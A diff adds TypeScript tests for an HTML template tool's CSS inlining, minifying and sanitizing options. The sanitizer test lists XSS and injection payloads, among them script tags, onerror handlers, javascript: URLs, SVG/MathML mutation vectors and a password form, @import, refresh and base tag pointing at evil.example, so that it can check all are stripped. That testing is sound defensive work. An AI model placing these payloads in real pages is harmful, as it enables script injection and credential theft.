@@ -71,3 +71,65 @@ test('JSON has the page and its bytes', async () => {
     value: { file_name: 'a.html', html: '<p>č', content_base64: 'PHA+xI0=' },
   });
 });
+
+const finished = async (change: Partial<DataToHtmlInput>, content: string) => {
+  const result = await run(change, { content });
+  return Buffer.from(result.kind === 'file' ? result.bytes : '').toString('utf8');
+};
+
+test('inline_css writes rules into elements, keeps those for media, and fetches nothing', async () => {
+  const html = await finished(
+    { inline_css: true, data: { name: 'Žaklina' } },
+    '<style>p { color: red } @media print { p { color: black } } p.a { margin: 0 }</style>' +
+      '<link rel="stylesheet" href="http://127.0.0.1:9/x.css"><p class="a">%name% &euro;</p>',
+  );
+  expect(html).toMatch(/<p class="a" style="color: red; margin: 0;">Žaklina (&euro;|€)<\/p>/);
+  expect(html).toMatch(/@media print/);
+});
+
+test.each([
+  '<script>alert(1)</script>',
+  '<img src="x" onerror="alert(1)">',
+  '<a href="javascript:alert(1)">a</a>',
+  '<a href="java\tscript:alert(1)">a</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<form action="http://evil.example"><input name="password"></form>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<p style="background: url(javascript:alert(1))">p</p>',
+  '<style>@import "http://evil.example";</style>',
+  '<meta http-equiv="refresh" content="0;url=http://evil.example">',
+  '<base href="http://evil.example/">',
+])('sanitize leaves nothing that runs of %s', async (attack) => {
+  const html = await finished({ sanitize: true }, `<h1>Kept</h1>${attack}<p>Also kept</p>`);
+  expect(html).toContain('<h1>Kept</h1>');
+  expect(html).not.toMatch(
+    /<(script|iframe|svg|math|form|input|object|style|meta|base)|\son\w+=|javascript:|evil/i,
+  );
+});
+
+test('sanitize keeps a page what it is', async () => {
+  const page =
+    '<!DOCTYPE html>\n<html lang="hr"><head><title>Račun</title></head><body><table><tbody>' +
+    '<tr><td align="right" style="color:red">č</td></tr></tbody></table>' +
+    '<img src="cid:logo" alt="Logo" /></body></html>';
+  expect(await finished({ sanitize: true }, page)).toBe(page);
+});
+
+test('minify leaves out comments and white space, and no letter of the text', async () => {
+  const html = await finished(
+    { minify: true, data: { name: 'Ana  Anić' } },
+    '<div>\n  <!-- note -->\n  <p>Dear   %name%,</p>\n\n  <p><b>a</b> <i>b</i></p>\n</div>',
+  );
+  expect(html).toBe('<div> <p>Dear Ana Anić,</p> <p><b>a</b> <i>b</i></p> </div>');
+});
+
+test('all three at once, on the shipped mail', async () => {
+  const content = await readShippedTemplate('invoice-mail.html');
+  const data = await readShippedSample('invoice-mail.html');
+  const change = { data, inline_css: true, sanitize: true, minify: true } as const;
+  const html = await finished(change, content);
+  expect(html).toContain('Dostava u Šibenik');
+  expect(html).not.toMatch(/<style|<!--|\n\n/);
+});
